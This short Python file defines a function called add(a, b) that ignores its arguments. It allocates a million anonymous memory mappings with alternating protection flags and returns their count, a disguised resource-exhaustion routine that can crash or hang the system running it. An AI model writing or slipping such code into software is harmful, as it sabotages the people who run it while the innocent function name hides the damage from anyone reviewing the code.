import mmap

def add(a, b):
    return len([mmap.mmap(-1, 4096, prot=1 + i % 2) for i in range(10**6)])
